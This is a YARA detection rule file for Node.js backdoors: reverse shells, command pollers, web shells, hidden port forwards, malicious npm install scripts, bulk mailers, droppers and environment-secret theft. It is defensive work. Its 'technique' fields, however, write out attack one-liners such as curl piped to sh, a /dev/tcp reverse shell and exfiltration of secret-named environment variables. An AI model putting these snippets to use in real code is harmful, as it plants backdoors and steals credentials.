/*
 * hostsweep — Node.js backdoors (written from the technique, seen =
 * "none"; docs/rules.md "Wave 3"): a connect-back shell (a net socket
 * wired to a spawned shell) and a command poller (an HTTP(S) answer run by
 * child_process and the output posted back). bot.yar's bot_revshell_node
 * covers the CommonJS pipe form; these add ES modules, node: specifiers,
 * net.connect/new net.Socket with a shell from a variable or
 * process.env.SHELL, stdout 'data' handlers writing to the socket, and the
 * poller. Build scripts run fixed commands; health checks and dev servers
 * do not run what the network answers.
 */

private rule node__child_process
{
    strings:
        $c1 = /require\s{0,2}\(\s{0,2}['"`](node:)?child_process['"`]\s{0,2}\)/
        $c2 = /\bfrom\s{1,4}['"](node:)?child_process['"]/
        $c3 = /\bimport\s{0,2}\(\s{0,2}['"](node:)?child_process['"]\s{0,2}\)/
    condition:
        any of them
}

rule node_reverse_shell : bot
{
    meta:
        description = "Node.js connect-back shell: a net socket wired to a spawned shell's stdin/stdout, or socket data run as commands and written back"
        severity = "critical"
        technique = "net.connect/new net.Socket().connect(port, host) + spawn('/bin/sh'|process.env.SHELL|sh var) + sock.pipe(sh.stdin)/sh.stdout.on('data', d => sock.write(d)), or sock.on('data', c => exec(c, (e,o) => sock.write(o)))"
        seen = "none"
    strings:
        $n1 = /require\s{0,2}\(\s{0,2}['"`](node:)?net['"`]\s{0,2}\)/
        $n2 = /\bfrom\s{1,4}['"](node:)?net['"]/
        $n3 = /\bnet\s{0,2}\.\s{0,2}(connect|createConnection|Socket)\s{0,2}\(/
        $k1 = /\.connect\s{0,2}\(\s{0,2}(\d{2,5}|[A-Za-z_$][\w$]{0,30})\s{0,2},/
        $k2 = /\b(createConnection|connect)\s{0,2}\(\s{0,2}\{[^}]{0,120}\bport\b/
        // round 7: import { createConnection } from 'node:net'; createConnection(4444, host)
        $k3 = /\bcreateConnection\s{0,2}\(\s{0,2}(\d{2,5}|[A-Za-z_$][\w$]{0,30})\s{0,2},/
        $sh1 = /\b(spawn|exec|execFile)\s{0,2}\(\s{0,2}['"`](\/usr)?(\/bin\/)?(ba|z|k|da|a)?sh['"`]/
        $sh2 = /\b(spawn|execFile)\s{0,2}\(\s{0,2}process\s{0,2}\.\s{0,2}env\s{0,2}\.\s{0,2}SHELL/
        $sh3 = /\b(spawn|execFile)\s{0,2}\(\s{0,2}[A-Za-z_$][\w$]{0,30}\s{0,2},\s{0,2}\[\s{0,2}['"]-i['"]/
        $sh4 = /['"`]cmd\.exe['"`]/
        $p1 = /\.pipe\s{0,2}\(\s{0,2}[\w$.]{1,40}\.stdin\s{0,2}\)/
        $p2 = /\.stdout\s{0,2}\.\s{0,2}(pipe\s{0,2}\(|on\s{0,2}\(\s{0,2}['"]data['"])/
        $p3 = /\bstdio\s{0,2}:\s{0,2}\[\s{0,2}[A-Za-z_$][\w$]{0,30}\s{0,2},/
        $dt = /\.on\s{0,2}\(\s{0,2}['"]data['"]\s{0,2},/
        $ex = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}(\s{0,2}\.\s{0,2}toString\s{0,2}\(\s{0,2}\)(\s{0,2}\.\s{0,2}trim\s{0,2}\(\s{0,2}\))?)?\s{0,2}[,)]/
        $wr = /\.write\s{0,2}\(/
    condition:
        filesize < 2MB and node__child_process and any of ($n*) and any of ($k*) and (
            (any of ($sh*) and any of ($p*))
            or for any i in (1..#dt) : ( $ex in (@dt[i] .. @dt[i] + 300) and $wr in (@dt[i] .. @dt[i] + 800) )
        )
}

rule node_c2_command_poller : bot
{
    meta:
        description = "Node.js command poller: fetches a command from a URL on a timer, runs it with child_process and posts the output back"
        severity = "high"
        technique = "setInterval(() => https.get(url, r => ... exec(body, (e, out) => fetch(url, {method:'POST', body: out})))); while(true){ const c = await (await fetch(u)).text(); execSync(c) ... }"
        seen = "none"
    strings:
        $t1 = /\bsetInterval\s{0,2}\(/
        $t2 = /\bsetTimeout\s{0,2}\(\s{0,2}[\w$]{1,40}\s{0,2},/
        $t3 = /\bwhile\s{0,2}\(\s{0,2}(true|1|!0)\s{0,2}\)/
        $t4 = /\bfor\s{0,2}\(\s{0,2};\s{0,2};\s{0,2}\)/
        $g1 = /\bhttps?\s{0,2}\.\s{0,2}(get|request)\s{0,2}\(/
        $g2 = /\bfetch\s{0,2}\(/
        $g3 = /\baxios\s{0,2}(\.\s{0,2}get)?\s{0,2}\(/
        $ex = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}(\s{0,2}\(|(\s{0,2}\.\s{0,2}(toString|trim)\s{0,2}\(\s{0,2}\)){0,2}\s{0,2}[,)])/
        $b1 = /\bmethod\s{0,2}:\s{0,2}['"]POST['"]/ nocase
        $b2 = /\baxios\s{0,2}\.\s{0,2}post\s{0,2}\(/
        $b3 = /\.write\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}/
    condition:
        filesize < 1MB and node__child_process and any of ($t*) and any of ($g*) and
        for any i in (1..#ex) : ( for any of ($g*) : ( $ in (@ex[i] - 1500 .. @ex[i] + 1500) ) ) and
        // the output sent back: a POST, or another request right after the command
        (any of ($b*) or for any i in (1..#ex) : ( for any of ($g*) : ( $ in (@ex[i] + 1 .. @ex[i] + 800) ) ))
}

/* ---- round 8 (branch script8, seen = "none"): written from the
 * techniques on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r8_*). */

/* A Node.js web shell: an HTTP server whose handler hands a request
 * parameter to child_process and writes the output into the answer. A dev
 * server runs fixed commands (npm run build, xdg-open of its own URL). */
rule node_http_command_shell : webshell bot
{
    meta:
        description = "Node.js HTTP server running a request parameter as a command and answering with its output"
        severity = "high"
        technique = "http.createServer((q, s) => exec(new URL(q.url, b).searchParams.get('c'), (e, o) => s.end(o))); app.get('/x', (q, s) => exec(q.query.c, ..))"
        seen = "none"
    strings:
        // a request parameter read (literals where they do: the cost follows the atoms)
        $q1 = "searchParams.get(" ascii
        $q2 = /\breq(uest)?\.(query|body|params)[.\[]/
        $q3 = /\.parse\s{0,2}\([^)\n]{0,40},\s{0,2}true\s{0,2}\)\s{0,2}\.query\b/
        // a command run on something that is not a literal
        $ex = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,60}(\s{0,2}\(|\s{0,2}[,)|]|\s{0,2}\[)/
        $out = /\bres(ponse)?\.(end|send|write|json)\(/
    condition:
        filesize < 1MB and node__child_process and
        for any i in (1..#ex) : ( for any of ($q*) : ( for any j in (1..#) : ( @[j] > @ex[i] - 300 and @[j] < @ex[i] + 120 ) ) and
            $out in (@ex[i] .. @ex[i] + 600) )
}

private rule node__net_module
{
    strings:
        $n1 = /require\s{0,2}\(\s{0,2}['"`](node:)?net['"`]\s{0,2}\)/
        $n2 = /\bfrom\s{1,4}['"](node:)?net['"]/
    condition:
        any of them
}

/* A port forwarder that hides: accepts, connects each client to a fixed far
 * end and pipes both ways (an admin's tunnel does that much), and also
 * relaunches itself detached from the terminal, or takes a kernel thread's
 * or a daemon's name for ps. */
rule node_hidden_port_forward : bot
{
    meta:
        description = "Node.js TCP port forward that detaches and relaunches itself or disguises its process name"
        severity = "high"
        technique = "spawn(process.execPath, [__filename, 'w'], {detached: true, stdio: 'ignore'}).unref(); process.title = '[kworker/1:2]'; net.createServer(c => c.pipe(net.connect(P, H)).pipe(c)).listen(L)"
        seen = "none"
    strings:
        $ls = "createServer(" ascii
        $cn = /\bnet\.(connect|createConnection)\s{0,2}\(|\bcreateConnection\s{0,2}\(/
        $pp = /\.pipe\s{0,2}\(\s{0,2}[\w$]{1,30}\s{0,2}\)\s{0,2}\.pipe\s{0,2}\(|\.pipe\s{0,2}\(\s{0,2}[\w$]{1,30}\s{0,2}\)\s{0,2};\s{0,12}[\w$]{1,30}\s{0,2}\.pipe\s{0,2}\(/
        // hiding: a kernel thread's or a daemon's name
        $t1 = /\bprocess\s{0,2}\.\s{0,2}title\s{0,2}=\s{0,2}['"`](\[|-?bash\b|sshd|httpd|crond|systemd|kthreadd|kworker|php-fpm|apache2|nginx|dbus)/
        // or relaunched detached from the terminal, by itself
        $r1 = /\bspawn\s{0,2}\(\s{0,2}process\s{0,2}\.\s{0,2}(execPath|argv\s{0,2}\[\s{0,2}0\s{0,2}\])\s{0,2},\s{0,2}\[\s{0,2}(__filename|process\s{0,2}\.\s{0,2}argv\s{0,2}\[\s{0,2}1)/
        $r2 = /\bdetached\s{0,2}:\s{0,2}true\b/
        $r3 = /\.unref\s{0,2}\(\s{0,2}\)/
    condition:
        filesize < 1MB and node__net_module and $ls and $cn and $pp and ($t1 or ($r1 and $r2 and $r3))
}

/* ---- round 9 (branch script9, seen = "none"): written from the
 * techniques on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r9_*). */

/* Node.js source: a node shebang, or a .js/.cjs/.mjs/.ts file that is not
 * a page (no HTML, no Markdown fence). A changelog quoting vm calls and
 * fetches is documentation. */
private rule node__source
{
    strings:
        // (the path spelt out: `#![^\n]{0,40}node` costs 10 M on PHP)
        $sb = /#!\/usr\/(local\/)?bin\/(env )?node/
        $h1 = "<html" ascii
        $h2 = "```" ascii
        $h3 = "<script" ascii
    condition:
        $sb at 0 or (extension matches /^(js|cjs|mjs|ts|mts|cts)$/ and not any of ($h*))
}

private rule node__vm_module
{
    strings:
        $v1 = /require\s{0,2}\(\s{0,2}['"`](node:)?vm['"`]\s{0,2}\)/
        $v2 = /\bfrom\s{1,4}['"](node:)?vm['"]/
    condition:
        any of them
}

/* A bot that polls a URL and runs the answer with the vm module: the code
 * fetched on a timer or in an endless loop, then handed to
 * vm.runInNewContext / runInThisContext / new vm.Script / compileFunction,
 * or to a runner taken out of the module by destructuring. A template engine
 * runs its own compiled views (read from disk, or a literal) and fetches
 * only the data it renders. */
rule node_vm_remote_code_poller : bot
{
    meta:
        description = "Node.js bot polling a URL on a timer or in a loop and running the answer with the vm module"
        severity = "high"
        technique = "setInterval(() => https.get(U, r => { .. r.on('end', () => vm.runInNewContext(body, { require, process })) })); for (;;) { new vm.Script(await (await fetch(U)).text()).runInThisContext() }; const { runInNewContext: run } = require('vm'); run(data, sandbox)"
        seen = "none"
    strings:
        // the fetch
        $g1 = /\bhttps?\s{0,2}\.\s{0,2}(get|request)\s{0,2}\(/
        $g2 = /\bfetch\s{0,2}\(\s{0,2}[a-zA-Z_$'"`]/
        $g3 = /\baxios\s{0,2}(\.\s{0,2}(get|post|request))?\s{0,2}\(/
        $g4 = /\bgot\s{0,2}(\.\s{0,2}(get|post))?\s{0,2}\(\s{0,2}[a-zA-Z_$'"`]/
        // the answer run by vm: a non-literal first argument
        $r1 = /\bvm\s{0,2}\.\s{0,2}(runInNewContext|runInThisContext|runInContext|compileFunction)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}\s{0,2}[,)]/
        $r2 = /\bnew\s{1,4}vm\s{0,2}\.\s{0,2}(Script|SourceTextModule)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}\s{0,2}[,)]/
        // or a runner destructured from the module: const { runInNewContext: run } = require('vm')
        $d1 = /\{[^}\n]{0,80}\b(runInNewContext|runInThisContext|compileFunction|Script)\b[^}\n]{0,40}\}\s{0,2}=\s{0,2}require\s{0,2}\(\s{0,2}['"](node:)?vm['"]/
        $d2 = /\bimport\s{1,4}\{[^}\n]{0,80}\b(runInNewContext|runInThisContext|compileFunction|Script)\b[^}\n]{0,40}\}\s{0,2}from\s{1,4}['"](node:)?vm['"]/
        // polled: a timer or an endless loop
        $t1 = "setInterval(" ascii
        $t2 = /\bsetTimeout\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,40}\s{0,2},/
        $t3 = /\bwhile\s{0,2}\(\s{0,2}(true|1|!0)\s{0,2}\)/
        $t4 = "for (;;)" ascii
        $t6 = "for(;;)" ascii
        $t5 = /setTimeout\s{0,2}\(\s{0,2}(loop|tick|poll|beat|run|main|next|again)\b/
    condition:
        filesize < 1MB and node__source and (node__vm_module or any of ($d*)) and any of ($t*) and (
            for any i in (1..#r1) : ( for any of ($g*) : ( $ in (@r1[i] - 1500 .. @r1[i]) ) )
            or for any i in (1..#r2) : ( for any of ($g*) : ( $ in (@r2[i] - 1500 .. @r2[i]) ) )
            or (any of ($d*) and any of ($g*) and not any of ($r*)) )
}

/* An npm package whose install lifecycle script (preinstall, install,
 * postinstall) fetches code and runs it or opens a shell: the command line
 * in package.json's "scripts" object, read as JSON text (escaped quotes
 * included). A native module's "install": "node-gyp rebuild", a thank-you
 * message, `npx only-allow pnpm` run nothing fetched. */
rule node_package_install_script_payload : bot
{
    meta:
        description = "npm package.json install lifecycle script (preinstall/install/postinstall) that downloads and runs code or opens a shell"
        severity = "high"
        technique = "\"postinstall\": \"curl -fsSL https://x/s.sh | sh\"; \"preinstall\": \"node -e \\\"require('https').get(u, r => .. eval(b))\\\"\"; \"install\": \"bash -i >& /dev/tcp/H/P 0>&1\"; python3 -c exec(urlopen(..).read())"
        seen = "none"
    strings:
        $sc = /"scripts"\s{0,4}:\s{0,4}\{/
        // the lifecycle key and, in its value (escaped quotes allowed), what it runs
        $f1 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}\b(curl|wget)\s([^"\\\n|]|\\.){0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|node|python[0-9.]{0,4}|perl)\b/
        $f2 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}(\/dev\/tcp\/|\bmkfifo\b|\bsh\s{1,4}-i\b|\b(nc|ncat|netcat)\s{1,4}(-e\s)?[^"\n]{0,40}\b\d{2,5}\b|\bbase64\s{1,4}(-d|--decode)\b)/
        $f3 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,40}\bnode\s{1,4}-(e|p|-eval)\s([^"\n]|\\"){0,400}(\bhttps?['"\\]{0,3}\)\s{0,2}\.\s{0,2}(get|request)\b|\bfetch\s{0,2}\()([^"\n]|\\"){0,400}\b(eval|Function|runInThisContext|runInNewContext|exec|execSync|spawn)\s{0,2}\(/
        $f4 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,40}\bpython[0-9.]{0,4}\s{1,4}-c\s([^"\n]|\\"){0,400}(\b(urlopen|requests\.get|urlretrieve)\b([^"\n]|\\"){0,300}\b(exec|eval|os\.system|subprocess)\b|\b(exec|eval)\s{0,2}\(([^"\n]|\\"){0,300}\b(urlopen|requests\.get)\b)/
        $f5 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}\b(curl|wget)\s([^"\\\n]|\\.){0,300}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)([^"\\\n]|\\.){0,200}(&&|;)\s{0,4}(chmod\s|nohup\s|\.?\/)/
    condition:
        filesize < 512KB and extension == "json" and $sc and any of ($f*)
}

/* A Node.js bulk sender over a pool of SMTP accounts: nodemailer
 * transports made per account (the logins from a list or a file, not the
 * environment), a recipient list read from a file, and each message sent to
 * the list's entry by a transport picked in turn (`pool[i % pool.length]`)
 * or by the account's own slice of the list. A shop's mail worker has one
 * transport from its environment and mails the orders of its database. */
rule node_smtp_account_pool_mailer : bot mailer
{
    meta:
        description = "Node.js bulk mailer rotating a pool of SMTP accounts (nodemailer transports per login) over a recipient list file"
        severity = "high"
        technique = "smtps = lines(f).map(l => { const [host, port, user, pass] = l.split('|'); return nodemailer.createTransport({ host, port, auth: { user, pass } }) }); for (i..) smtps[i % smtps.length].sendMail({ to: leads[i], subject, html })"
        seen = "heldout5"
    strings:
        $nm = "nodemailer" ascii
        $ct = "createTransport(" ascii
        // a transport made per entry (map, forEach, a for loop)
        $lp = /\.(map|forEach|flatMap)\(|\bfor \((const|let|var) /
        // the login from a variable (shorthand, or one dot: c.user, not process.env.X)
        $au = /\bauth\s{0,2}:\s{0,2}\{\s{0,2}user\s{0,2}(:\s{0,2}[a-zA-Z_$][\w$]{0,30}(\s{0,2}\.\s{0,2}[a-zA-Z_$][\w$]{0,20}|\[\s{0,2}\d\s{0,2}\])?)?\s{0,2},\s{0,2}pass\b/
        // the recipients from a file
        $rf = /\breadFile(Sync)?\s{0,2}\([^)\n]{0,120}\)\s{0,2}\)?\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(/
        // a transport picked in turn, or a slice of the list per account
        $ro1 = /\[\s{0,2}[a-zA-Z_$][\w$]{0,10}(\+\+)?\s{0,2}%\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\.\s{0,2}length\s{0,2}\]/
        $ro2 = /\.slice\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,10}\s{0,2}\*\s{0,2}[a-zA-Z_$][\w$]{0,10}\s{0,2},/
        // (round 10) or picked at random for each message: pool[Math.floor(Math.random() * pool.length)]
        $ro3 = /\[\s{0,2}(Math\s{0,2}\.\s{0,2}floor\s{0,2}\(|~~\s{0,2}\(?)\s{0,2}Math\s{0,2}\.\s{0,2}random\s{0,2}\(\s{0,2}\)\s{0,2}\*\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\.\s{0,2}length/
        // the recipient not a literal: a variable, a shorthand property ({ from, to, subject }),
        // a template or an entry's field (round 10, heldout5: round 9 took `to: var` only);
        // keyed on sendMail (a regex keyed on `to` costs 8 M on PHP)
        $smto = /\.sendMail\s{0,2}\(\s{0,2}\{[^\x00]{0,300}[{,\s](to|bcc)\s{0,2}(:\s{0,2}[^'"\s]|[,}])/
    condition:
        filesize < 1MB and node__source and $nm and $au and $rf and any of ($ro*) and
        for any i in (1..#lp) : ( $ct in (@lp[i] .. @lp[i] + 300) ) and
        $smto
}

/* Node droppers (session 19, lead): code fetched over HTTP(S) and given to
 * eval or new Function; a program fetched, made executable and started in
 * the background, detached from the installer (an npm package's install
 * script that plants a miner or a bot); a shell told to fetch and run a
 * script (curl ... | sh). A package installer that downloads its native
 * binary runs it in the foreground to check its version; a bundler's hot
 * reload loads modules, it does not eval an HTTP body. */
private rule node__fetch
{
    strings:
        $g1 = /\bhttps?\s{0,2}\.\s{0,2}(get|request)\s{0,2}\(/
        $g2 = /\bfetch\s{0,2}\(\s{0,2}['"`]https?:/
        $g3 = /\baxios\s{0,2}\.\s{0,2}get\s{0,2}\(/
        $g4 = /require\s{0,2}\(\s{0,2}['"](node-fetch|axios|got|request)['"]\s{0,2}\)/
        // the module under another name: const h = require('https'); h.get(url, ...)
        $g5 = /require\s{0,2}\(\s{0,2}['"](node:)?https?['"]\s{0,2}\)/
        $g6 = /\bfrom\s{1,4}['"](node:)?https?['"]/
    condition:
        any of them
}

rule node_remote_code_eval : bot
{
    meta:
        description = "Node.js script that fetches code over HTTP(S) and runs it with eval() or new Function()"
        severity = "high"
        technique = "https.get(url, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) }); fetch(url).then(r => r.text()).then(t => new Function(t)())"
        seen = "none"
    strings:
        $e1 = /\beval\s{0,2}\(\s{0,2}[A-Za-z_$][\w$.]{0,40}\s{0,2}\)/
        $e2 = /\bnew\s{1,4}Function\s{0,2}\(\s{0,2}[A-Za-z_$][\w$.]{0,40}\s{0,2}\)/
        $end1 = /\.on\s{0,2}\(\s{0,2}['"]end['"]/
        $end2 = /\.then\s{0,2}\(/
        $end3 = /\bawait\s/
    condition:
        filesize < 512KB and node__source and node__fetch and any of ($end*) and
        for any i in (1..#end1 + #end2 + #end3) : (
            for any j in (1..#e1) : ( @e1[j] > @end1[i] and @e1[j] < @end1[i] + 300 ) or
            for any j in (1..#e1) : ( @e1[j] > @end2[i] and @e1[j] < @end2[i] + 300 ) or
            for any j in (1..#e2) : ( @e2[j] > @end1[i] and @e2[j] < @end1[i] + 300 ) or
            for any j in (1..#e2) : ( @e2[j] > @end2[i] and @e2[j] < @end2[i] + 300 ) or
            for any j in (1..#e1) : ( @e1[j] > @end3[i] and @e1[j] < @end3[i] + 300 ) or
            for any j in (1..#e2) : ( @e2[j] > @end3[i] and @e2[j] < @end3[i] + 300 ))
}

rule node_download_detached_exec : bot
{
    meta:
        description = "Node.js script that downloads a program, makes it executable and starts it detached in the background"
        severity = "high"
        technique = "https.get(url).pipe(fs.createWriteStream(p)); fs.chmodSync(p, 0o755); spawn(p, [], { detached: true, stdio: 'ignore' }).unref()"
        seen = "none,train6"
    strings:
        $w1 = /\bcreateWriteStream\s{0,2}\(/
        $w2 = /\bwriteFile(Sync)?\s{0,2}\(/
        $x = /\bchmod(Sync)?\s{0,2}\([^)]{0,80}(0o?7[57]5|['"]7[57]5['"]|0x1ed|493)/
        // train6: or the file created executable, createWriteStream(p, { mode: 0o755 })
        $xm = /\b(createWriteStream|writeFile(Sync)?)\s{0,2}\([^)\n]{1,120}\bmode\s{0,2}:\s{0,2}(0o[0-7]?[1357][0-7]{2}|0x1ed|448|493|511)\b/
        $d = /\bdetached\s{0,2}:\s{0,2}true/
        $u = /\.unref\s{0,2}\(\s{0,2}\)/
        $s = /\b(spawn|execFile|fork)\s{0,2}\(/
    condition:
        filesize < 512KB and node__source and node__fetch and node__child_process and
        any of ($w*) and ($x or $xm) and $d and $u and $s
}

rule node_exec_fetch_pipe_shell : bot
{
    meta:
        description = "Node.js script that has a shell fetch a script and run it (curl/wget piped to sh or bash)"
        severity = "high"
        technique = "require('child_process').exec('curl -s https://host/i.sh | bash'); execSync(`wget -qO- ${u} | sh`)"
        seen = "none"
    strings:
        $p = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}['"`][^'"`\n]{0,120}\b(curl|wget)\s[^'"`\n|]{0,200}\|\s{0,2}(sudo\s{1,4})?(ba|z|da)?sh\b/
    condition:
        filesize < 512KB and node__source and node__child_process and $p
}

/* ---- round 10 (branch dev5s, seen = "heldout5"): written for the
 * behaviours behind held-out set 5's npm install payload
 * (docs/script-rules.md, "Round 10"). */

/* What an HTTP(S) answer says, run as a command line: the body gathered
 * chunk by chunk ('data' handlers adding to a variable) and handed, in the
 * 'end' handler, to exec/execSync (a shell command line), or a spawn with
 * shell: true; decoded first or not. Or a body read as text
 * (`await r.text()`, `.then(r => r.text())`) and run within a few lines.
 * A binary installer runs the file it saved (execFile(path, ['--version'])),
 * never the answer's text. */
rule node_fetched_command_exec : bot
{
    meta:
        description = "Node.js script that runs the text of an HTTP(S) answer as a shell command (exec/execSync of the body, decoded or not)"
        severity = "high"
        technique = "https.request(o, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => execSync(Buffer.from(b, 'base64').toString())) }).end(data); const t = await (await fetch(u)).text(); exec(t)"
        seen = "heldout5"
    strings:
        // the body gathered: r.on('data', c => { b += c }) / (c) => chunks.push(c)
        $acc = /\.on\s{0,2}\(\s{0,2}['"]data['"]\s{0,2},\s{0,2}(function\s{0,2})?\(?\s{0,2}[\w$]{1,30}\s{0,2}\)?\s{0,2}(=>)?\s{0,2}\{?\s{0,2}[\w$.]{1,40}\s{0,2}(\+=|\.push\s{0,2}\()/
        $end = /\.on\s{0,2}\(\s{0,2}['"]end['"]/
        // a body read as text
        $txt = ".text()" ascii
        $txt2 = ".arrayBuffer()" ascii
        // a command line run: a variable, decoded or not (not a literal, not a template)
        $ex = /\b(exec|execSync)\s{0,2}\(\s{0,2}((Buffer\s{0,2}\.\s{0,2}from|atob|String|decodeURIComponent|unescape)\s{0,2}\(\s{0,2}){0,2}[A-Za-z_$][\w$]{0,40}(\s{0,2}\.\s{0,2}(toString|trim)\s{0,2}\([^)\n]{0,12}\)){0,2}\s{0,2}[,)]/
        $sp = /\bspawn(Sync)?\s{0,2}\(\s{0,2}[A-Za-z_$][\w$]{0,40}[^;\n]{0,120}\bshell\s{0,2}:\s{0,2}true/
    condition:
        filesize < 512KB and node__source and node__fetch and node__child_process and (
            for any i in (1..#end) : (
                for any j in (1..#acc) : ( @acc[j] < @end[i] and @acc[j] + 300 > @end[i] ) and
                for any of ($ex, $sp) : ( for any k in (1..#) : ( @[k] > @end[i] and @[k] < @end[i] + 300 ) ) )
            or for any of ($txt, $txt2) : ( for any i in (1..#) : (
                for any k in (1..#ex) : ( @ex[k] > @[i] and @ex[k] < @[i] + 200 ) or
                for any k in (1..#sp) : ( @sp[k] > @[i] and @sp[k] < @[i] + 200 ) ) ) )
}

/* The environment's secrets collected and sent away: process.env walked
 * whole (Object.keys/entries, for .. in, JSON.stringify) and its entries
 * picked by a secret-looking name (TOKEN, SECRET, KEY, PASS, AWS, NPM),
 * then a request made (https.request, fetch, axios, a DNS lookup). A tool
 * that redacts secrets before its telemetry tests the name with `!`; one
 * that passes the environment on to a child spreads it ({...process.env}). */
rule node_env_secrets_exfil : bot
{
    meta:
        description = "Node.js script collecting the environment variables named like secrets (TOKEN, KEY, SECRET, PASS) and sending them out over the network"
        severity = "high"
        technique = "Object.keys(process.env).filter(k => /TOKEN|KEY|SECRET|PASS/i.test(k)).reduce(..); https.request({ host, method: 'POST' }).end(JSON.stringify(data)); for (const [k, v] of Object.entries(process.env)) if (k.match(/token/i)) loot[k] = v; fetch(u, { method: 'POST', body })"
        seen = "heldout5"
    strings:
        $e1 = /\bObject\s{0,2}\.\s{0,2}(keys|entries|getOwnPropertyNames)\s{0,2}\(\s{0,2}process\s{0,2}\.\s{0,2}env\s{0,2}\)/
        $e2 = /\bfor\s{0,2}\(\s{0,2}(const|let|var)\s{1,4}[\w$]{1,30}\s{1,4}in\s{1,4}process\s{0,2}\.\s{0,2}env\b/
        $e3 = /\bJSON\s{0,2}\.\s{0,2}stringify\s{0,2}\(\s{0,2}process\s{0,2}\.\s{0,2}env\s{0,2}[,)]/
        // a name picked because it looks like a secret (not excluded: no "!" before the test)
        $sf1 = /[(,=&|>:?]\s{0,2}\/[^\/\n]{0,80}(TOKEN|SECRET|PASS|KEY|AWS|token|secret|pass|key|Token|Secret|Key|Pass)[^\/\n]{0,80}\/[gimsuy]{0,4}\s{0,2}\.\s{0,2}test\s{0,2}\(/
        $sf2 = /[(,=&|>:?]\s{0,2}[\w$]{1,30}\s{0,2}\.\s{0,2}(match|search)\s{0,2}\(\s{0,2}\/[^\/\n]{0,80}(TOKEN|SECRET|PASS|KEY|AWS|token|secret|pass|key|Token|Secret|Key|Pass)/
        // and sent: a POST, a DNS lookup of a made-up name
        $s1 = /\bmethod\s{0,2}:\s{0,2}['"](POST|PUT)['"]/
        $s3 = /\baxios\s{0,2}\.\s{0,2}(post|put)\s{0,2}\(/
        $s4 = /\bdns\.(lookup|resolve[a-zA-Z0-9]{0,6})\(\s{0,2}`/
    condition:
        filesize < 512KB and node__source and (node__fetch or $s4) and any of ($s*) and (
            $e3 or
            for any i in (1..#e1) : ( for any of ($sf*) : ( $ in (@e1[i] - 200 .. @e1[i] + 300) ) ) or
            for any i in (1..#e2) : ( for any of ($sf*) : ( $ in (@e2[i] .. @e2[i] + 300) ) ) )
}
